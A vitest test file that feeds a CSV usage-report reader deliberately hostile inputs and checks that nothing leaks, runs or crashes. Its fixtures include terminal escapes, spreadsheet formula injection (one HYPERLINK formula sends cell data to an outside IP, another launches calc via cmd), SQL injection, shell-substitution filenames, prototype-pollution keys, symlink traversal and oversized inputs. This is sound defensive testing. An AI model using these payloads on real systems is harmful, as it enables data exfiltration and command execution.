import { createHash } from 'node:crypto';
import { chmodSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { mkdtemp, realpath, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { Ajv2020 } from 'ajv/dist/2020.js';
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import { creditsCsv } from '../../src/report/credits-csv.ts';
import { creditsJson } from '../../src/report/credits-json.ts';
import { creditsText } from '../../src/report/credits-text.ts';
import { decimal } from '../../src/usage/amount.ts';
import type { Facts } from '../../src/usage/facts.ts';
import { readUsage } from '../../src/usage/read.ts';
import { cells, MOST_RECORDS, scan } from '../../src/usage/record.ts';
import { daysOf } from '../../src/usage/sum.ts';
import { put } from '../support/usage-tree.ts';
import { creditsOf } from '../usage/scenario.ts';

// Usage files as somebody writes them who may write to the bucket and wants kirosync to lie, leak, write, or end.
// Damage of the ordinary sort (a BOM, CRLF, blank lines, one stray quote, one cell too many): test/usage/read.test.ts.

const HEADER = 'Date,UserId,Client_Type,Credits_Used,Overage_Credits_Used,Subscription_Tier';
const ANA = 'a0000000-0000-4000-8000-000000000001';
const DAY = '2026-11-01';
const STAMP = '202611300200';

const line = (user: string, credits: string, { date = DAY, client = 'KIRO_IDE', overage = '0', tier = 'PRO' } = {}): string =>
  [date, user, client, credits, overage, tier].join(',');
const file = (...lines: readonly string[]): string => `${[HEADER, ...lines].join('\n')}\n`;
const quoted = (text: string): string => `"${text.replaceAll('"', '""')}"`;
/** A row that is good, so that a case shows what its damage costs beside it. */
const GOOD = line(ANA, '1');

/** One hostile file, alone in its account: how many of its rows are used, superseded and rejected, and the credits of its used rows. */
type Attack = {
  readonly name: string;
  readonly content: string | Uint8Array;
  readonly rows: readonly [used: number, superseded: number, rejected: number];
  readonly sum: string;
  /** The name of the file before `_ACCOUNT_user_report_…`, KIRO_IDE otherwise. */
  readonly called?: string;
  readonly stamp?: string;
};

const one = (name: string, row: string): Attack => ({ name, content: file(GOOD, row), rows: [1, 0, 1], sum: '1' });
const used = (name: string, row: string, sum: string): Attack => ({ name, content: file(row), rows: [1, 0, 0], sum });

const HOSTILE = [
  '\u001b[2J\u001b]0;pwned\u0007',
  '\u202egnp.exe',
  'a\u200b\u2066b',
  '=HYPERLINK("http://198.51.100.1/?"&A1)',
  '+1+cmd|/c calc!A0',
  '@SUM(1)',
  '-2+3',
  "'; DROP TABLE raw; --",
  "x'||(SELECT path FROM files LIMIT 1)||'",
  '__proto__',
  'constructor',
  '<script>alert(1)</script>',
  '| a | b |',
  '\ufeffana',
  '\u0085\u2028next',
  'two\nlines',
  '\u0000nul',
];
const NUMBERS = [
  '1e400',
  '-1e400',
  'NaN',
  'nan',
  'Infinity',
  '-Infinity',
  'inf',
  '-1',
  '-0.000001',
  '0x10',
  '1_000',
  '1,5',
  '1.234.567',
  '١٢',
  '1e',
  '--1',
  '1 000',
  '1000000000000.1',
  '99999999999999999999',
  'NULL',
  'true',
  '1;2',
  '(1)',
  '$1',
  '1e-',
  '∞',
  '½',
];
const DATES = [
  '0000-00-00',
  '9999-99-99',
  '2026-02-30',
  '2026-13-01',
  '2026-11-31',
  '2026-11-1',
  '26-11-01',
  '11/01/2026',
  '2026-11-01T00:00:00Z',
  '20261101',
  'infinity',
  'epoch',
  'today',
  '-2026-11-01',
  '+2026-11-01',
  '2026-11-01 (BC)',
  '9999-12-31',
  '1969-12-31',
  'NULL',
];
const NAMES = [
  "'; DROP TABLE raw; --",
  '*',
  '**',
  '?',
  '[a]',
  '{a,b}',
  '[!x]',
  '$(id)',
  '`id`',
  '%2e%2e',
  '~',
  '--version',
  'c4=999',
  '"q"',
  '漢字',
  'a\tb',
  '\u202egpj',
  'a b',
  '#',
  '!x',
  '&&',
  's3:',
  'file:',
  'a\\b',
];

const ATTACKS: readonly Attack[] = [
  ...HOSTILE.map((text, i): Attack => used(`UserId ${JSON.stringify(text)}`, line(quoted(text), '1', { client: `C${i}` }), '1')),
  ...HOSTILE.map((text) => used(`tier ${JSON.stringify(text)}`, line(ANA, '1', { tier: quoted(text) }), '1')),
  ...HOSTILE.map((text) => used(`client ${JSON.stringify(text)}`, line(ANA, '1', { client: quoted(text) }), '1')),
  ...NUMBERS.map((text) => one(`credits ${text}`, line('b', quoted(text)))),
  ...NUMBERS.map((text) => one(`overage ${text}`, line('b', '1', { overage: quoted(text) }))),
  ...DATES.map((date) => one(`date ${date}`, line('b', '1', { date: quoted(date) }))),
  ...NAMES.map((called) => ({ name: `a file called ${called}`, called, content: file(GOOD), rows: [1, 0, 0] as const, sum: '1' })),
  used('as many digits as are kept', line(ANA, '0.000000000000000001'), '0.000000000000000001'),
  used('the most credits that one row may claim', line(ANA, '1e12'), '1000000000000'),
  used('a day of a year before and of another month than the path', line(ANA, '1', { date: '2025-02-28' }), '0'),
  { name: 'a row that stands there a thousand times', content: file(...Array<string>(1000).fill(GOOD)), rows: [1, 999, 0], sum: '1' },
  { name: 'UserIds that only letter case tells apart', content: file(GOOD, line(ANA.toUpperCase(), '2')), rows: [1, 1, 0], sum: '2' },
  { name: 'a header twice', content: file(HEADER, GOOD), rows: [1, 0, 1], sum: '1' },
  { name: 'a header alone', content: `${HEADER}\n`, rows: [0, 0, 0], sum: '' },
  { name: 'nothing', content: '', rows: [0, 0, 0], sum: '' },
  { name: 'a BOM alone', content: '\ufeff', rows: [0, 0, 0], sum: '' },
  { name: 'line ends alone', content: '\r\n\r\n\r\r\n', rows: [0, 0, 0], sum: '' },
  { name: 'no header', content: `${GOOD}\n${GOOD}\n`, rows: [0, 0, 2], sum: '' },
  { name: 'the header names UserId twice', content: `${HEADER},userid\n${GOOD},evil\n`, rows: [0, 0, 1], sum: '' },
  { name: 'the header names ProfileId twice', content: `${HEADER},ProfileId,PROFILEID\n${GOOD},,\n`, rows: [0, 0, 1], sum: '' },
  {
    name: 'a column is missing',
    content: `${HEADER.replace('Client_Type,', '')}\n${GOOD.replace('KIRO_IDE,', '')}\n`,
    rows: [0, 0, 1],
    sum: '',
  },
  { name: 'a header with one cell only', content: `Date\n${GOOD}\n`, rows: [0, 0, 1], sum: '' },
  {
    name: 'rows longer and shorter than the header (empty cells behind it say nothing)',
    content: file(GOOD, `${GOOD},x`, `${GOOD},,,,,`, DAY, ',', ',,,,,,,,'),
    rows: [1, 1, 4],
    sum: '1',
  },
  { name: 'a quote that is never closed', content: file(GOOD, line(`"${ANA}`, '5'), line('b', '2')), rows: [2, 0, 1], sum: '1 2' },
  { name: 'a quote closed in another row', content: file(`"${GOOD}`, GOOD, `${GOOD}"`, line('b', '2')), rows: [1, 0, 1], sum: '2' },
  { name: 'a header whose quote is never closed', content: `"${HEADER}\n${GOOD}\n`, rows: [0, 0, 1], sum: '' },
  {
    name: 'half a million line ends in quotes, and mixed line ends',
    content: `${HEADER}\r\n${GOOD}\n${line(quoted('\n'.repeat(500_000)), '7')}\n`,
    rows: [1, 0, 1],
    sum: '1',
  },
  {
    name: 'half a million line ends in a cell nobody reads',
    content: `${HEADER},New_User\r\n${GOOD},${quoted('\n'.repeat(500_000))}\n`,
    rows: [1, 0, 0],
    sum: '1',
  },
  {
    name: 'names of a hundred thousand characters',
    content: file(
      GOOD,
      line('u'.repeat(100_000), '1'),
      line('b', '1', { client: 'c'.repeat(100_000) }),
      line('c', '1', { tier: 't'.repeat(100_000) }),
    ),
    rows: [1, 0, 3],
    sum: '1',
  },
  { name: 'a row of 1.1 MB', content: file(GOOD, line('u'.repeat(1_100_000), '1')), rows: [1, 0, 1], sum: '1' },
  { name: 'a header of 1.1 MB', content: `${HEADER},${'x'.repeat(1_100_000)}\n${GOOD},1\n`, rows: [0, 0, 1], sum: '' },
  {
    name: 'more columns than a report may have',
    content: `${HEADER}${',x'.repeat(20_000)}\n${GOOD}${',1'.repeat(20_000)}\n`,
    rows: [0, 0, 1],
    sum: '',
  },
  {
    name: 'a thousand model columns called like SQL',
    content: `${HEADER}${Array.from({ length: 1000 }, (_, i) => `,"m.${i}'""; DROP TABLE raw; --"`).join('')}\n${GOOD}${',1'.repeat(1000)}\n`,
    rows: [1, 0, 0],
    sum: '1',
  },
  { name: 'gzip', content: new Uint8Array(gzipSync(file(GOOD))), rows: [0, 0, 1], sum: '' },
  { name: 'UTF-16', content: new Uint8Array(Buffer.from(`\ufeff${file(GOOD)}`, 'utf16le')), rows: [0, 0, 2], sum: '' },
  {
    name: 'bytes that are no UTF-8',
    content: new Uint8Array(Buffer.concat([Buffer.from(file(GOOD)), Buffer.from([0xff, 0xfe, 0x2c]), Buffer.from(`${line('b', '2')}\n`)])),
    rows: [1, 0, 1],
    sum: '1',
  },
  { name: 'NUL bytes for a whole row', content: file(GOOD, '\u0000'.repeat(1000)), rows: [1, 0, 1], sum: '1' },
  {
    name: 'a time of the last day there is',
    stamp: '999912310200',
    content: file(line(ANA, '1', { date: '9999-12-31' })),
    rows: [1, 0, 0],
    sum: '0',
  },
  { name: 'a time that is none', stamp: '209999990200', content: file(line(ANA, '1', { date: '9999-12-31' })), rows: [1, 0, 0], sum: '0' },
  { name: 'a name of two lines', called: 'KIRO\nIDE', content: file(GOOD), rows: [0, 0, 1], sum: '' },
];

const accountOf = (i: number): string => String(500_000_000_000 + i);

let top: string;
let facts: Facts;
let before: string;

/** Everything below a folder: names, and a digest of what is in them. */
function listing(folder: string): string {
  return readdirSync(folder, { recursive: true, withFileTypes: true })
    .map((entry) => {
      const path = join(entry.parentPath, entry.name);
      return `${path} ${entry.isFile() ? createHash('sha256').update(readFileSync(path)).digest('hex') : '-'}`;
    })
    .sort()
    .join('\n');
}

beforeAll(async () => {
  top = await realpath(await mkdtemp(join(tmpdir(), 'usage-attack-')));
  mkdirSync(join(top, 'tmp'));
  vi.stubEnv('TMPDIR', join(top, 'tmp'));
  for (const [i, { content, called = 'KIRO_IDE', stamp = STAMP }] of ATTACKS.entries()) {
    const account = accountOf(i);
    put(
      join(top, 'in'),
      `AWSLogs/${account}/KiroLogs/user_report/us-east-1/2026/11/01/00/${called}_${account}_user_report_${stamp}.csv`,
      content,
    );
  }
  // What a wildcard, a link or a folder called like a file would reach.
  const elsewhere = 'AWSLogs/111122223333/KiroLogs/user_report/us-east-1/2026/11/01/00';
  const secret = put(join(top, 'outside'), `${elsewhere}/x_111122223333_user_report_${STAMP}.csv`, file(line('secret', '100')));
  put(join(top, 'in2'), `${elsewhere}/a_111122223333_user_report_${STAMP}.csv`, file(line('secret', '100')));
  mkdirSync(join(top, 'in', elsewhere), { recursive: true });
  symlinkSync(secret, join(top, 'in', elsewhere, `link_111122223333_user_report_${STAMP}.csv`));
  symlinkSync(join(top, 'outside'), join(top, 'in', 'outside'));
  symlinkSync('/dev/zero', join(top, 'in', elsewhere, `zero_111122223333_user_report_${STAMP}.csv`));
  mkdirSync(join(top, 'in', elsewhere, `folder_111122223333_user_report_${STAMP}.csv`));
  before = listing(top);
  facts = await readUsage([join(top, 'in')], '2026-11', top);
}, 60_000);
afterAll(async () => {
  vi.unstubAllEnvs();
  await rm(top, { recursive: true, force: true });
});

describe('a folder of hostile reports', () => {
  test.each(ATTACKS.map((attack, i) => [attack.name, attack, accountOf(i)] as const))('%s', (_name, attack, account) => {
    const sums = facts.people.filter((person) => person.account === account).map((person) => decimal(person.used));
    expect(sums.join(' ')).toBe(attack.sum);
  });

  test('every row is counted once', () => {
    const total = (at: 0 | 1 | 2) => ATTACKS.reduce((sum, { rows }) => sum + rows[at], 0);
    expect(facts.rows).toMatchObject({ used: total(0), superseded: total(1), rejected: total(2), read: total(0) + total(1) + total(2) });
    expect(facts.files).toMatchObject({ reports: ATTACKS.length, other: 3 });
    expect(facts.rejected).toHaveLength(20);
  });

  test('nothing outside is read, and nothing is written', () => {
    expect(facts.people.filter(({ account }) => account === '111122223333')).toEqual([]);
    expect(listing(top)).toBe(before);
  });

  test('no report of it drives a terminal, runs in a spreadsheet, or leaves its line', () => {
    const made = creditsOf('', null, facts);
    const [text, json, csv] = [creditsText(made, { color: false }), creditsJson(made), creditsCsv(made)];
    for (const output of [text, json, csv]) expect(output.match(/[^\n\P{Cc}]|[\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/gu)).toBeNull();
    expect(csv.match(/(?:^|,)"?[=+@\t\r-]\D/gm)).toBeNull();
    expect(csv.trimEnd().split('\n')).toHaveLength(made.people.length + 1);
    expect(Math.max(...text.split('\n').map((each) => each.length))).toBeLessThan(2_000);
    const schema: object = JSON.parse(readFileSync(new URL('../../schemas/credits.schema.json', import.meta.url), 'utf8'));
    expect(new Ajv2020({ strict: true, allowUnionTypes: true }).validate(schema, JSON.parse(json))).toBe(true);
    expect(Object.hasOwn(Object.prototype, 'polluted')).toBe(false);
    // Each hostile tier and each account could be a note of its own.
    expect(made.notes.length).toBeLessThan(60);
  });
});

describe('a file that is damage from end to end', () => {
  const alone = async (content: string | Uint8Array, change: (path: string) => void = () => {}): Promise<Facts> => {
    const folder = await realpath(await mkdtemp(join(top, 'alone-')));
    change(
      put(
        folder,
        `AWSLogs/111122223333/KiroLogs/user_report/us-east-1/2026/11/01/00/KIRO_IDE_111122223333_user_report_${STAMP}.csv`,
        content,
      ),
    );
    put(
      folder,
      `AWSLogs/444455556666/KiroLogs/user_report/us-east-1/2026/11/01/00/KIRO_IDE_444455556666_user_report_${STAMP}.csv`,
      file(GOOD),
    );
    return await readUsage([folder], '2026-11', top);
  };

  test('a line of 50 MB costs its row', async () => {
    const made = await alone(Buffer.concat([Buffer.from(file(GOOD)), Buffer.alloc(50_000_000, 'x')]));
    expect(made.rows).toMatchObject({ read: 3, used: 2, rejected: 1 });
    expect(made.rejected).toMatchObject([{ line: 3, reason: 'the row has 50000000 bytes' }]);
  }, 60_000);

  test.skipIf(process.getuid?.() === 0)('a file that may not be read is named, and the others are read', async () => {
    const made = await alone(file(GOOD), (path) => chmodSync(path, 0));
    expect(made.rows).toMatchObject({ used: 1, rejected: 1 });
    expect(made.rejected).toMatchObject([{ line: null, reason: expect.stringContaining('cannot be read (EACCES)') }]);
  });

  test('a file whose name is no UTF-8 is named, and the others are read', async () => {
    const made = await alone('', (path) => {
      const folder = Buffer.from(path.slice(0, path.lastIndexOf('/') + 1));
      writeFileSync(Buffer.concat([folder, Buffer.from([0xff]), Buffer.from(`_111122223333_user_report_${STAMP}.csv`)]), file(GOOD));
    });
    expect(made.rows).toMatchObject({ used: 1, rejected: 1 });
    expect(made.rejected.filter(({ reason }) => !reason.includes('is empty'))).toMatchObject([
      { line: null, reason: expect.stringContaining('cannot be read (ENOENT)') },
    ]);
  });

  test('more lines than memory has room for are counted, not kept', () => {
    const { records, count } = scan(Buffer.alloc(2 * (MOST_RECORDS + 10), 'a\n'));
    expect([records.length, count]).toEqual([MOST_RECORDS, MOST_RECORDS + 10]);
  }, 60_000);

  test('a header cell of 20 MB in quotes runs out of no stack', () => {
    expect(cells(`Date,"${'x'.repeat(20_000_000)}",b`).map((cell) => cell.length)).toEqual([4, 20_000_000, 1]);
    expect(cells(`"${'x'.repeat(20_000_000)}`)).toHaveLength(1);
  });
});

test('the days of the last month there is end', () => {
  expect(daysOf('9999-12', '9999-12-31', [])).toHaveLength(31);
});
